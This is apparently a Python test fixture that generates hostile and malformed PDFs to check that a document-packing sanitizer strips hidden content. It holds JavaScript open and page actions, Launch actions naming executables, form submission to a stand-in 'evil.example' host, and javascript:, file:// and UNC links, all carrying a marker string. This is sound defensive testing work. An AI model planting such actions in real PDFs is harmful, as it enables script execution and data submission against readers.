"""Hostile appendix PDFs (issue 16), made with pikepdf: one for each way a PDF carries content or
code besides its pages' own text and images, and one for each way a PDF cannot be read.

Each PDF of the first kind has one page whose visible text is ``VISIBLE`` and the kind's name
(``visible(kind)``), and hides :data:`SECRET` in what it carries besides, so a test can read the
pack's bytes, decode every stream, and require that the text is still there and the secret is
not. Run as ``python -m tests.pack.hostile`` it writes the unreadable ones as the appendices of
the corpus cases ``tests/across/corpus/meetings/appendix-pdf-KIND/``.
"""

from __future__ import annotations

import io
import itertools
from collections.abc import Callable
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name, String

SECRET = b"HOSTILE-3c9d"
"""In every hostile thing a PDF below carries; none of it may reach a pack."""


def visible(kind: str) -> str:
    """The text the page of the ``kind`` PDF shows, which must reach the pack."""
    return f"VISIBLE {kind} page text"


def _font(pdf: pikepdf.Pdf) -> Dictionary:
    return pdf.make_indirect(
        Dictionary(
            Type=Name.Font,
            Subtype=Name.Type1,
            BaseFont=Name.Helvetica,
            Encoding=Name.WinAnsiEncoding,
        )
    )


def _document(kind: str) -> tuple[pikepdf.Pdf, Dictionary]:
    """A PDF of one page showing ``visible(kind)``, and that page."""
    pdf = pikepdf.new()
    content = f"BT /F1 14 Tf 72 700 Td ({visible(kind)}) Tj ET".encode()
    page = pdf.add_blank_page(page_size=(612, 792))
    page.obj.Resources = Dictionary(Font=Dictionary(F1=_font(pdf)))
    page.obj.Contents = pdf.make_stream(content)
    return pdf, page.obj


def _bytes(pdf: pikepdf.Pdf) -> bytes:
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def _embedded(pdf: pikepdf.Pdf, name: str) -> Dictionary:
    """A file specification with an embedded file holding the secret."""
    stream = pdf.make_stream(b"embedded " + SECRET + b" " + name.encode())
    stream.Type = Name.EmbeddedFile
    return pdf.make_indirect(
        Dictionary(
            Type=Name.Filespec,
            F=String(f"{name}.txt"),
            UF=String(f"{name}.txt"),
            EF=Dictionary(F=stream),
            Desc=String(f"{SECRET.decode()} {name}"),
        )
    )


def _js(pdf: pikepdf.Pdf, where: str) -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(f"app.alert('{SECRET.decode()} {where}');"))


def _annotate(
    pdf: pikepdf.Pdf, page: Dictionary, subtype: str, rect: list[int], **entries: object
) -> Dictionary:
    """Add an annotation of ``subtype`` at ``rect`` to ``page``, printed, with ``entries``
    (a key of ``entries`` that is no Python name is written with a leading underscore:
    ``_3DD`` for ``/3DD``)."""
    annotation = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name(subtype), Rect=Array(rect), F=4)
    )
    for key, value in entries.items():
        annotation["/" + key.lstrip("_")] = value
    if "/Annots" not in page:
        page.Annots = Array()
    page.Annots.append(annotation)
    return annotation


def attachment() -> bytes:
    """A file attachment annotation, and a file in the catalog's /EmbeddedFiles tree."""
    pdf, page = _document("attachment")
    _annotate(
        pdf,
        page,
        "/FileAttachment",
        [72, 600, 90, 620],
        FS=_embedded(pdf, "annotation"),
        Contents=String(f"{SECRET.decode()} attached"),
    )
    pdf.Root.Names = Dictionary(
        EmbeddedFiles=Dictionary(Names=Array([String("tree.txt"), _embedded(pdf, "tree")]))
    )
    return _bytes(pdf)


def associated() -> bytes:
    """Associated files (/AF) on the catalog, the page, a form XObject it draws, an annotation
    and a structure element of its tags, and a stream hung wherever its tags may hold one."""
    pdf, page = _document("associated")
    pdf.Root.AF = Array([_embedded(pdf, "catalog")])
    page.AF = Array([_embedded(pdf, "page")])
    form = pdf.make_stream(b"0 0 1 rg 0 0 10 10 re f")
    form.Type, form.Subtype, form.BBox = Name.XObject, Name.Form, [0, 0, 10, 10]
    form.AF = Array([_embedded(pdf, "xobject")])
    page.Resources.XObject = Dictionary(Fx=form)
    page.Contents = pdf.make_stream(
        page.Contents.read_bytes().replace(b"BT", b"/P <</MCID 0>> BDC BT") + b" EMC q /Fx Do Q"
    )
    link = _annotate(
        pdf,
        page,
        "/Link",
        [72, 690, 300, 715],
        A=Dictionary(S=Name.URI, URI=String("https://www.nottinghamshire.gov.uk/")),
        AF=Array([_embedded(pdf, "annotation")]),
        StructParent=1,
    )
    page.StructParents = 0
    root = pdf.make_indirect(Dictionary(Type=Name.StructTreeRoot))
    document = pdf.make_indirect(
        Dictionary(Type=Name.StructElem, S=Name.Document, P=root, K=Array())
    )
    paragraph = pdf.make_indirect(
        Dictionary(
            Type=Name.StructElem,
            S=Name.P,
            P=document,
            Pg=page,
            K=0,
            AF=Array([_embedded(pdf, "element")]),
        )
    )
    tagged_link = pdf.make_indirect(
        Dictionary(
            Type=Name.StructElem,
            S=Name.Link,
            P=document,
            Pg=page,
            K=Dictionary(Type=Name.OBJR, Obj=link, Pg=page),
        )
    )
    # data hung where tags may hold objects: an element's own entry, its attributes, a kid
    # referring to a stream that is not drawn, a class, and a parent tree entry
    hidden = pdf.make_stream(b"hidden " + SECRET)
    paragraph.Private = hidden
    paragraph.A = Dictionary(O=Name.Layout, Data=hidden)
    paragraph.K = Array([0, Dictionary(Type=Name.OBJR, Obj=hidden, Pg=page)])
    root.ClassMap = Dictionary(Hidden=Dictionary(O=Name.Layout, Data=hidden))
    document.K = Array([paragraph, tagged_link])
    root.K = document
    root.ParentTree = Dictionary(
        Nums=Array([0, Array([paragraph]), 1, tagged_link, 2, Array([paragraph, hidden])])
    )
    root.ParentTreeNextKey = 3
    pdf.Root.StructTreeRoot = root
    pdf.Root.MarkInfo = Dictionary(Marked=True)
    return _bytes(pdf)


def rich_media() -> bytes:
    """A RichMedia annotation whose assets are embedded files."""
    pdf, page = _document("rich-media")
    _annotate(
        pdf,
        page,
        "/RichMedia",
        [72, 400, 300, 600],
        RichMediaContent=Dictionary(
            Assets=Dictionary(Names=Array([String("movie.swf"), _embedded(pdf, "asset")])),
            Configurations=Array(),
        ),
    )
    return _bytes(pdf)


def three_d() -> bytes:
    """A 3D annotation whose artwork runs JavaScript when it is shown."""
    pdf, page = _document("three-d")
    artwork = pdf.make_stream(b"U3D " + SECRET)
    artwork.Type, artwork.Subtype = Name("/3D"), Name.U3D
    artwork.OnInstantiate = pdf.make_stream(b"host.alert('" + SECRET + b" 3D');")
    _annotate(pdf, page, "/3D", [72, 400, 300, 600], _3DD=artwork)
    return _bytes(pdf)


def _link(pdf: pikepdf.Pdf, page: Dictionary, top: int, action: Dictionary) -> None:
    _annotate(pdf, page, "/Link", [72, top, 300, top + 20], A=action)


SAFE_LINKS = ("https://www.nottinghamshire.gov.uk/", "http://example.org/", "mailto:a@b.org")
"""The links of ``links()`` that a pack keeps."""


def links() -> bytes:
    """Links to every kind of place: safe ones, and script, local file and UNC ones."""
    pdf, page = _document("links")
    unsafe = (
        "javascript:app.alert('" + SECRET.decode() + "')",
        " JavaScript:" + SECRET.decode(),
        "file:///etc/" + SECRET.decode(),
        "\\\\server\\share\\" + SECRET.decode() + ".pdf",
        "//server/share/" + SECRET.decode(),
        "data:text/html," + SECRET.decode(),
        SECRET.decode() + ".html",
    )
    for n, uri in enumerate(unsafe):
        _link(pdf, page, 100 + 25 * n, Dictionary(S=Name.URI, URI=String(uri)))
    for n, uri in enumerate(SAFE_LINKS):
        _link(pdf, page, 400 + 25 * n, Dictionary(S=Name.URI, URI=String(uri)))
    # a safe link whose action runs a script next
    _link(
        pdf,
        page,
        500,
        Dictionary(
            S=Name.URI, URI=String("https://example.org/next"), Next=_js(pdf, "next in a chain")
        ),
    )
    return _bytes(pdf)


def actions() -> bytes:
    """JavaScript everywhere a document can run it, and the actions that launch programs, send
    the form, import data or open other files."""
    pdf, page = _document("actions")
    pdf.Root.OpenAction = _js(pdf, "open action")
    pdf.Root.AA = Dictionary(WC=_js(pdf, "document will close"))
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("start"), _js(pdf, "document level")]))
    )
    page.AA = Dictionary(O=_js(pdf, "page open"))
    kinds = (
        Dictionary(S=Name.JavaScript, JS=pdf.make_stream(b"app.alert('" + SECRET + b"');")),
        Dictionary(S=Name.Launch, F=String(f"C:\\{SECRET.decode()}.exe")),
        Dictionary(S=Name.Launch, Win=Dictionary(F=String(f"{SECRET.decode()}.exe"))),
        Dictionary(S=Name.SubmitForm, F=String(f"https://evil.example/{SECRET.decode()}")),
        Dictionary(S=Name.ImportData, F=String(f"{SECRET.decode()}.fdf")),
        Dictionary(S=Name.GoToR, F=String(f"{SECRET.decode()}.pdf"), D=Array([0, Name.Fit])),
        Dictionary(S=Name.GoToE, D=Array([0, Name.Fit]), T=Dictionary(R=Name.C, N=String("x"))),
        Dictionary(S=Name.GoTo, D=Array([page, Name.Fit]), Next=_js(pdf, "after a go-to")),
    )
    for n, action in enumerate(kinds):
        _link(pdf, page, 100 + 25 * n, action)
    pdf.Root.Outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines))
    with pdf.open_outline() as outline:
        outline.root.append(
            pikepdf.OutlineItem("Run a script", action=pdf.make_indirect(_js(pdf, "bookmark")))
        )
        outline.root.append(
            pikepdf.OutlineItem(
                "Open a file",
                action=pdf.make_indirect(
                    Dictionary(S=Name.URI, URI=String("file:///" + SECRET.decode()))
                ),
            )
        )
    return _bytes(pdf)


def media() -> bytes:
    """Movie, Sound and Screen annotations, each with what it plays."""
    pdf, page = _document("media")
    sound = pdf.make_stream(b"RIFF " + SECRET)
    sound.Type, sound.R = Name.Sound, 8000
    _annotate(pdf, page, "/Movie", [72, 100, 200, 150], Movie=Dictionary(F=_embedded(pdf, "movie")))
    _annotate(pdf, page, "/Sound", [72, 160, 200, 210], Sound=sound)
    play = Dictionary(S=Name.Rendition, OP=0, JS=String(f"play('{SECRET.decode()}')"))
    _annotate(pdf, page, "/Screen", [72, 220, 200, 270], A=play)
    return _bytes(pdf)


FIELD_TEXT = "VISIBLE form field value"
"""What the filled field of ``form()`` shows: the pack keeps it as page content."""


def form() -> bytes:
    """A filled form: a text field showing its value, a hidden field holding the secret, and a
    field whose value is not shown at all; with a calculation script and a submit button."""
    pdf, page = _document("form")
    font = _font(pdf)

    def appearance(text: str) -> pikepdf.Stream:
        stream = pdf.make_stream(f"/Tx BMC BT /Helv 12 Tf 2 6 Td ({text}) Tj ET EMC".encode())
        stream.Type, stream.Subtype, stream.BBox = Name.XObject, Name.Form, [0, 0, 300, 24]
        stream.Resources = Dictionary(Font=Dictionary(Helv=font))
        return stream

    def field(name: str, value: str, top: int, **entries: object) -> Dictionary:
        rect = [72, top, 372, top + 24]
        entries.setdefault("FT", Name.Tx)
        return _annotate(pdf, page, "/Widget", rect, T=String(name), V=String(value), **entries)

    secret = SECRET.decode()
    shown = field(
        "shown",
        FIELD_TEXT,
        600,
        AP=Dictionary(N=appearance(FIELD_TEXT)),
        AA=Dictionary(K=_js(pdf, "keystroke")),
    )
    hidden = field(
        "hidden",
        f"{secret} hidden value",
        550,
        F=2 | 4,
        AP=Dictionary(N=appearance(f"{secret} hidden appearance")),
    )
    unshown = field("unshown", f"{secret} value without appearance", 500)
    button = field(
        "send",
        "",
        450,
        FT=Name.Btn,
        Ff=1 << 16,
        A=Dictionary(S=Name.SubmitForm, F=String(f"https://evil.example/{secret}")),
    )
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([shown, hidden, unshown, button]),
        DA=String("/Helv 0 Tf 0 g"),
        DR=Dictionary(Font=Dictionary(Helv=font)),
        CO=Array([shown]),
    )
    shown.AA = Dictionary(C=_js(pdf, "calculate"))
    return _bytes(pdf)


STAMP_TEXT = "VISIBLE stamp APPROVED"
"""What the stamp of ``comments()`` shows: the pack keeps it as page content."""


def comments() -> bytes:
    """A reviewer's comments: a stamp showing a word, with a note and a popup holding the
    secret, and a sticky note without an appearance holding it too."""
    pdf, page = _document("comments")
    look = pdf.make_stream(f"BT /F1 12 Tf 2 6 Td ({STAMP_TEXT}) Tj ET".encode())
    look.Type, look.Subtype, look.BBox = Name.XObject, Name.Form, [0, 0, 200, 24]
    look.Resources = Dictionary(Font=Dictionary(F1=_font(pdf)))
    secret = SECRET.decode()
    stamp = _annotate(
        pdf,
        page,
        "/Stamp",
        [72, 500, 272, 524],
        AP=Dictionary(N=look),
        Contents=String(f"{secret} reviewer's note"),
        RC=String(f"<body><p>{secret} rich text</p></body>"),
        T=String(f"{secret} reviewer"),
    )
    stamp.Popup = _annotate(
        pdf, page, "/Popup", [300, 500, 500, 600], Parent=stamp, Contents=String(secret)
    )
    _annotate(pdf, page, "/Text", [72, 400, 90, 418], Contents=String(f"{secret} sticky note"))
    return _bytes(pdf)


GENERATED_TEXT = "VISIBLE value the viewer was to draw"
"""The value of the field of ``form_to_draw()``, which has no appearance of its own."""


def form_to_draw() -> bytes:
    """A form whose fields the viewer is to draw (/NeedAppearances): its one field has a value
    and no appearance, and a script to run when it is shown."""
    pdf, page = _document("form-to-draw")
    field = _annotate(
        pdf,
        page,
        "/Widget",
        [72, 600, 372, 624],
        FT=Name.Tx,
        T=String("drawn"),
        V=String(GENERATED_TEXT),
        DA=String("/Helv 12 Tf 0 g"),
        AA=Dictionary(PO=_js(pdf, "page open")),
    )
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([field]),
        NeedAppearances=True,
        DA=String("/Helv 12 Tf 0 g"),
        DR=Dictionary(Font=Dictionary(Helv=_font(pdf))),
    )
    return _bytes(pdf)


CONTENT: dict[str, Callable[[], bytes]] = {
    "attachment": attachment,
    "associated": associated,
    "comments": comments,
    "rich-media": rich_media,
    "three-d": three_d,
    "links": links,
    "actions": actions,
    "media": media,
    "form": form,
    "form-to-draw": form_to_draw,
}
"""Each PDF that carries something besides its page, by kind."""


def encrypted() -> bytes:
    """A PDF that opens only with a password."""
    pdf, _ = _document("encrypted")
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(owner="owner", user="secret", R=6))
    return out.getvalue()


def no_pages() -> bytes:
    """A PDF with no pages."""
    pdf = pikepdf.new()
    return _bytes(pdf)


def bad_rotate() -> bytes:
    """A page turned by a name, not a number of degrees."""
    pdf, page = _document("bad-rotate")
    page.Rotate = Name("/Ninety")
    return _bytes(pdf)


def bad_struct_parents() -> bytes:
    """A page whose key into the parent tree is a string."""
    pdf, page = _document("bad-struct-parents")
    page.StructParents = String("zero")
    return _bytes(pdf)


def deep(levels: int = 40, cycle: bool = False) -> bytes:
    """A page drawing a form XObject that draws another, ``levels`` deep; or a form that
    draws itself through a second one (``cycle``)."""
    pdf, page = _document("deep")
    forms = []
    for _ in range(2 if cycle else levels):
        form = pdf.make_stream(b"q /Fx Do Q")
        form.Type, form.Subtype, form.BBox = Name.XObject, Name.Form, [0, 0, 10, 10]
        forms.append(form)
    for outer, inner in itertools.pairwise(forms):
        outer.Resources = Dictionary(XObject=Dictionary(Fx=inner))
    last = forms[-1]
    if cycle:
        last.Resources = Dictionary(XObject=Dictionary(Fx=forms[0]))
    else:
        last.write(b"0 0 10 10 re f")
    page.Resources.XObject = Dictionary(Fx=forms[0])
    page.Contents = pdf.make_stream(page.Contents.read_bytes() + b" q /Fx Do Q")
    return _bytes(pdf)


def damaged() -> bytes:
    """A file that starts as a PDF and then is nothing qpdf can recover."""
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + b"\x00garbage " * 40 + b"\n%%EOF\n"


UNREADABLE: dict[str, Callable[[], bytes]] = {
    "encrypted": encrypted,
    "no-pages": no_pages,
    "bad-rotate": bad_rotate,
    "bad-struct-parents": bad_struct_parents,
    "deep": deep,
    "cycle": lambda: deep(cycle=True),
    "damaged": damaged,
}
"""Each PDF that cannot make a pack, by kind."""


CORPUS = Path(__file__).resolve().parent.parent / "across" / "corpus" / "meetings"
"""Where the corpus cases of the unreadable PDFs are, each ``appendix-pdf-KIND/KIND.pdf``."""


def write_corpus() -> None:
    """Write each unreadable PDF as the appendix of its corpus case."""
    for kind, make in UNREADABLE.items():
        folder = CORPUS / f"appendix-pdf-{kind}"
        folder.mkdir(exist_ok=True)
        (folder / f"{kind}.pdf").write_bytes(make())


if __name__ == "__main__":
    write_corpus()
